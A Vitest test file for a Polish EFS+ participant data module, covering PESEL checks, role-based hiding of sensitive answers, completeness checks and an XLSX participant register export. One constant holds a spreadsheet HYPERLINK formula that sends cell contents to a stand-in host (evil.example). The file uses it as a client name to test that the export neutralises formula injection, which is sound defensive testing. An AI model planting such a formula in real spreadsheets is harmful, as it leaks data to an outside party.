import ExcelJS from "exceljs";
import { beforeEach, describe, expect, it } from "vitest";
import type { TContext } from "@/lib/auth/context";
import { getClientHistory } from "@/lib/domain/clients/service";
import { missingMonitoringFields } from "@/lib/domain/participants/completeness";
import { getParticipantsPage } from "@/lib/domain/participants/page";
import { exportParticipantRegister } from "@/lib/domain/participants/register-export";
import { REGISTER_COLUMNS } from "@/lib/domain/participants/register-columns";
import type { TParticipantDataInput } from "@/lib/domain/participants/schemas";
import { getParticipantPage, saveParticipantData } from "@/lib/domain/participants/service";
import { auditRows, contextFor, countRows, createClient, createTenant, createUser, ownerQuery, type TTenantRow, type TUserRow } from "@/tests/factories";
import { appErrorOf } from "@/tests/factories/assertions";

/**
 * EFS+ participant data (issue 16 §5): the person's data saved and read in scope, the PESEL's
 * word on sex and birth date, the special-category answers behind clients.read_sensitive, the
 * completeness check per person and in the list, and the participant register as XLSX.
 */

/** A valid PESEL of a woman born 1985-03-14. */
const PESEL = "85031400427";
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")';

let tenant: TTenantRow;
let manager: TUserRow;
let advisor: TUserRow;
let animator: TUserRow;
let managerCtx: TContext;
let advisorCtx: TContext;
let personId: string;

/** Everything monitoring needs at the start; participation from 1 February 2026, still running. */
function fullInput(overrides: Partial<TParticipantDataInput> = {}): TParticipantDataInput {
  return {
    sex: "FEMALE",
    birthDate: "1985-03-14",
    educationLevel: "ISCED_3",
    labourMarketStatus: "LONG_TERM_UNEMPLOYED",
    disability: "YES",
    foreignOrigin: "NO",
    minority: "REFUSED",
    homeless: "NO",
    urbanisation: "RURAL",
    participationStart: "2026-02-01",
    participationEnd: "",
    situationAtEnd: "",
    ...overrides,
  };
}

async function setAddress(
  clientId: string,
  address: { voivodeship?: string | null; county?: string | null; commune?: string | null; town?: string | null; postalCode?: string | null } = {},
) {
  await ownerQuery(`UPDATE client SET voivodeship = $2, county = $3, commune = $4, town = $5, postal_code = $6 WHERE id = $1`, [
    clientId,
    address.voivodeship === undefined ? "świętokrzyskie" : address.voivodeship,
    address.county === undefined ? "kielecki" : address.county,
    address.commune === undefined ? "Daleszyce" : address.commune,
    address.town === undefined ? "Daleszyce" : address.town,
    address.postalCode === undefined ? "26-021" : address.postalCode,
  ]);
}

/** A person of the tenant with an address, in the advisor's care. */
async function person(name: string, overrides: { pesel?: string; status?: "ACTIVE" | "CLOSED" } = {}) {
  // A closed client's support has ended: no key advisor any more.
  const client = await createClient(tenant, { name, keyAdvisorId: overrides.status === "CLOSED" ? null : advisor.id, ...overrides });
  await setAddress(client.id);
  return client.id;
}

async function readWorkbook(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  // exceljs is typed against an older Buffer; the bytes are the same.
  await workbook.xlsx.load(body as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error("no sheet");
  return (sheet.getSheetValues().slice(1) as unknown[][]).map((row) => row.slice(1));
}

beforeEach(async () => {
  tenant = await createTenant();
  manager = await createUser(tenant, { role: "MANAGER" });
  advisor = await createUser(tenant, { role: "KEY_ADVISOR" });
  animator = await createUser(tenant, { role: "ANIMATOR" });
  managerCtx = contextFor(manager);
  advisorCtx = contextFor(advisor);
  personId = await person("Anna Nowak", { pesel: PESEL });
  await ownerQuery(
    `INSERT INTO client_team_member (id, tenant_id, client_id, user_id, role, starts_on, added_by_id)
     VALUES (gen_random_uuid(), $1, $2, $3, 'ANIMATOR', current_date - 1, $4)`,
    [tenant.id, personId, animator.id, manager.id],
  );
});

describe("a person's EFS+ data", () => {
  it("is saved and read back with the age at the start, and audited on the client with what changed", async () => {
    await saveParticipantData(advisorCtx, personId, fullInput());
    const page = await getParticipantPage(advisorCtx, personId);
    expect(page.canEdit).toBe(true);
    expect(page.participant).toMatchObject({
      values: { sex: "FEMALE", birthDate: "1985-03-14", disability: "YES", minority: "REFUSED", participationStart: "2026-02-01", participationEnd: "" },
      missing: [],
      ageAtStart: 40,
      sensitiveHidden: false,
      address: { county: "kielecki", commune: "Daleszyce", postalCode: "26-021" },
    });

    await saveParticipantData(advisorCtx, personId, fullInput({ educationLevel: "ISCED_4" }));
    await saveParticipantData(advisorCtx, personId, fullInput({ educationLevel: "ISCED_4" })); // nothing changed: nothing audited
    const rows = (await auditRows(tenant.id)).filter((r) => r.action === "participant.update");
    expect(rows.map((r) => [r.entity_type, r.entity_id, r.actor_id])).toEqual([
      ["Client", personId, advisor.id],
      ["Client", personId, advisor.id],
    ]);
    expect(rows[0]?.after).toMatchObject({ sex: "FEMALE", birthDate: "1985-03-14", disability: "YES" });
    expect({ before: rows[1]?.before, after: rows[1]?.after }).toEqual({ before: { educationLevel: "ISCED_3" }, after: { educationLevel: "ISCED_4" } });
  });

  it("offers sex and birth date from the client's PESEL and refuses a contradiction next to the field", async () => {
    expect((await getParticipantPage(advisorCtx, personId)).participant?.fromPesel).toEqual({ sex: "FEMALE", birthDate: "1985-03-14" });

    const error = await appErrorOf(saveParticipantData(advisorCtx, personId, fullInput({ sex: "MALE", birthDate: "1985-03-15" })));
    expect({ code: error.code, fieldErrors: error.fieldErrors }).toEqual({
      code: "VALIDATION_FAILED",
      fieldErrors: { sex: "sexContradictsPesel", birthDate: "birthDateContradictsPesel" },
    });
    expect(await countRows("participant_data", tenant.id)).toBe(0);

    // Without a PESEL there is nothing to contradict.
    const noPesel = await person("Jan Bez Peselu");
    expect((await getParticipantPage(advisorCtx, noPesel)).participant?.fromPesel).toBeNull();
    await saveParticipantData(advisorCtx, noPesel, fullInput({ sex: "MALE" }));
  });

  it("refuses an end before the start next to the field", async () => {
    const error = await appErrorOf(saveParticipantData(advisorCtx, personId, fullInput({ participationEnd: "2026-01-31" })));
    expect(error.fieldErrors).toEqual({ participationEnd: "endBeforeStart" });
  });

  it("shows the special-category answers only to roles with clients.read_sensitive, in the data and in the history", async () => {
    await saveParticipantData(advisorCtx, personId, fullInput({ disability: "", foreignOrigin: "", minority: "", homeless: "" }));
    await saveParticipantData(advisorCtx, personId, fullInput());

    // The animator is on the client's team: reads the client, but neither sensitive data nor writes.
    const animatorCtx = contextFor(animator);
    const page = await getParticipantPage(animatorCtx, personId);
    expect(page.canEdit).toBe(false);
    expect(page.participant?.sensitiveHidden).toBe(true);
    expect(page.participant?.values).toMatchObject({ disability: "", foreignOrigin: "", minority: "", homeless: "NO", educationLevel: "ISCED_3" });
    expect((await appErrorOf(saveParticipantData(animatorCtx, personId, fullInput({ disability: "NO" })))).code).toBe("FORBIDDEN");

    const entries = (await getClientHistory(animatorCtx, personId)).auditEntries.filter((e) => e.description.actionKey === "audit.actions.participant.update");
    // Newest first: the second save recorded the special-category answers (withheld here); the first had none.
    expect(entries.map((e) => e.sensitiveHidden)).toEqual([true, false]);
    expect(JSON.stringify(entries.map((e) => e.description))).not.toMatch(/disability|foreignOrigin|minority|participants\.answers\.YES/);
    // The advisor sees them.
    const advisorEntries = (await getClientHistory(advisorCtx, personId)).auditEntries.filter(
      (e) => e.description.actionKey === "audit.actions.participant.update",
    );
    expect(JSON.stringify(advisorEntries[0]?.description)).toMatch(/audit\.fields\.disability/);

    // The stored answers are untouched by anything the animator tried.
    const [stored] = await ownerQuery<{ disability: string }>(`SELECT disability::text FROM participant_data WHERE client_id = $1`, [personId]);
    expect(stored?.disability).toBe("YES");
  });

  it("is kept for persons only", async () => {
    const ngo = await createClient(tenant, { kind: "NGO", name: "Stowarzyszenie Razem", keyAdvisorId: advisor.id });
    const page = await getParticipantPage(advisorCtx, ngo.id);
    expect({ participant: page.participant, canEdit: page.canEdit }).toEqual({ participant: null, canEdit: false });
    expect((await appErrorOf(saveParticipantData(advisorCtx, ngo.id, fullInput()))).code).toBe("PARTICIPANT_NOT_A_PERSON");
    expect(await countRows("participant_data", tenant.id)).toBe(0);
  });

  it("answers NOT_FOUND for another tenant's person, a malformed id, and a person outside the caller's scope", async () => {
    const other = await createTenant();
    const otherAdvisor = await createUser(other, { role: "KEY_ADVISOR" });
    const foreign = await createClient(other, { name: "Obca Osoba", keyAdvisorId: otherAdvisor.id });
    const stranger = contextFor(await createUser(tenant, { role: "KEY_ADVISOR" }));
    for (const [ctx, id] of [
      [advisorCtx, foreign.id],
      [advisorCtx, "not-a-uuid"],
      [stranger, personId],
    ] as const) {
      expect((await appErrorOf(getParticipantPage(ctx, id))).code).toBe("NOT_FOUND");
      expect((await appErrorOf(saveParticipantData(ctx, id, fullInput()))).code).toBe("NOT_FOUND");
    }
    expect(await countRows("participant_data")).toBe(0);
  });
});

describe("the completeness check", () => {
  let complete: string;
  let noCounty: string;
  let closed: string;
  let nothing: string;
  let earlier: string;

  beforeEach(async () => {
    complete = personId;
    await saveParticipantData(advisorCtx, complete, fullInput());
    noCounty = await person("Barbara Bez Powiatu");
    await setAddress(noCounty, { county: null });
    await saveParticipantData(advisorCtx, noCounty, fullInput({ sex: "", birthDate: "" }));
    closed = await person("Cezary Zamknięty", { status: "CLOSED" });
    await saveParticipantData(managerCtx, closed, fullInput({ sex: "MALE", birthDate: "" }));
    nothing = await person("Dorota Bez Danych");
    earlier = await person("Ewa Z Roku 2024");
    await saveParticipantData(advisorCtx, earlier, fullInput({ participationStart: "2024-01-10", participationEnd: "2024-12-20", situationAtEnd: "EMPLOYED" }));
    // Not persons, or not this tenant's: never listed.
    await createClient(tenant, { kind: "NGO", name: "Aaa Stowarzyszenie", keyAdvisorId: advisor.id });
    const other = await createTenant();
    await createClient(other, { name: "Aaa Obca Osoba" });
  });

  it("lists per person what is missing, by name", async () => {
    const list = await getParticipantsPage(managerCtx, {});
    expect(list.items.map((i) => [i.name, i.missing])).toEqual([
      ["Anna Nowak", []],
      ["Barbara Bez Powiatu", ["sex", "birthDate", "county"]],
      ["Cezary Zamknięty", ["birthDate", "participationEnd", "situationAtEnd"]],
      [
        "Dorota Bez Danych",
        [
          "sex",
          "birthDate",
          "educationLevel",
          "urbanisation",
          "labourMarketStatus",
          "disability",
          "foreignOrigin",
          "minority",
          "homeless",
          "participationStart",
        ],
      ],
      ["Ewa Z Roku 2024", []],
    ]);
    // The service's list and the pure rule agree on each person.
    const page = await getParticipantPage(managerCtx, closed);
    expect(page.participant?.missing).toEqual(["birthDate", "participationEnd", "situationAtEnd"]);
    expect(
      missingMonitoringFields({ status: "CLOSED", address: { voivodeship: "x", county: "y", commune: "z" }, data: null }, "2026-06-01", { sensitive: true }),
    ).toContain("participationEnd");
  });

  it("filters to the incomplete ones with the same rule, and by the year participation overlaps", async () => {
    const names = async (input: Parameters<typeof getParticipantsPage>[1]) => (await getParticipantsPage(managerCtx, input)).items.map((i) => i.name);
    expect(await names({ incomplete: "1" })).toEqual(["Barbara Bez Powiatu", "Cezary Zamknięty", "Dorota Bez Danych"]);
    // 2024: the person who took part then, and the one whose start is still unknown.
    expect(await names({ year: "2024" })).toEqual(["Dorota Bez Danych", "Ewa Z Roku 2024"]);
    expect(await names({ year: "2026", incomplete: "1" })).toEqual(["Barbara Bez Powiatu", "Cezary Zamknięty", "Dorota Bez Danych"]);
    const paged = await getParticipantsPage(managerCtx, { pageSize: 2, page: 2 });
    expect({ total: paged.total, pageCount: paged.pageCount, names: paged.items.map((i) => i.name) }).toEqual({
      total: 5,
      pageCount: 3,
      names: ["Cezary Zamknięty", "Dorota Bez Danych"],
    });
  });

  it("is the manager's (participants.report)", async () => {
    for (const ctx of [advisorCtx, contextFor(animator), contextFor(await createUser(tenant, { role: "COORDINATOR" }))]) {
      expect((await appErrorOf(getParticipantsPage(ctx, {}))).code).toBe("FORBIDDEN");
      expect((await appErrorOf(exportParticipantRegister(ctx, {}))).code).toBe("FORBIDDEN");
    }
  });

  it("exports the register as XLSX: the configured columns in order, the year's persons, names as text", async () => {
    await ownerQuery(`UPDATE client SET name = $2, name_normalized = lower($2) WHERE id = $1`, [nothing, HYPERLINK]);
    const register = await exportParticipantRegister(managerCtx, { year: "2026" });
    expect(register.fileName).toBe("rejestr-uczestnikow-2026.xlsx");
    const [header, ...rows] = await readWorkbook(register.body);
    expect(header).toEqual(REGISTER_COLUMNS.map((c) => c.header));
    expect(header?.slice(0, 5)).toEqual(["Lp.", "Imię i nazwisko", "PESEL", "Płeć", "Wiek w chwili rozpoczęcia udziału"]);
    expect(header?.at(-1)).toBe("Braki danych");

    const col = (name: string) => REGISTER_COLUMNS.findIndex((c) => c.header === name);
    // By name: the formula-like name sorts first ("=" before letters) and stays text.
    expect(rows.map((r) => r[col("Imię i nazwisko")])).toEqual([`'${HYPERLINK}`, "Anna Nowak", "Barbara Bez Powiatu", "Cezary Zamknięty"]);
    expect(rows.map((r) => r[col("Lp.")])).toEqual([1, 2, 3, 4]);
    const anna = rows[1] ?? [];
    expect({
      pesel: anna[col("PESEL")],
      sex: anna[col("Płeć")],
      age: anna[col("Wiek w chwili rozpoczęcia udziału")],
      county: anna[col("Powiat")],
      degurba: anna[col("Stopień urbanizacji (DEGURBA)")],
      disability: anna[col("Osoba z niepełnosprawnościami")],
      minority: anna[col("Mniejszość")],
      start: (anna[col("Data rozpoczęcia udziału")] as Date).toISOString().slice(0, 10),
      end: anna[col("Data zakończenia udziału")],
      missing: anna[col("Braki danych")],
    }).toEqual({
      pesel: PESEL,
      sex: "Kobieta",
      age: 40,
      county: "kielecki",
      degurba: "3 - Obszary wiejskie",
      disability: "Tak",
      minority: "Odmowa podania informacji",
      start: "2026-02-01",
      end: undefined,
      missing: undefined,
    });
    expect(rows[3]?.[col("Braki danych")]).toBe("data urodzenia, data zakończenia udziału, sytuacja po zakończeniu");

    // Every year: the 2024 participant too; other tenants' persons and organisations never.
    const all = await readWorkbook((await exportParticipantRegister(managerCtx, {})).body);
    expect(all.slice(1).map((r) => r[col("Imię i nazwisko")])).toEqual([
      `'${HYPERLINK}`,
      "Anna Nowak",
      "Barbara Bez Powiatu",
      "Cezary Zamknięty",
      "Ewa Z Roku 2024",
    ]);
  });
});
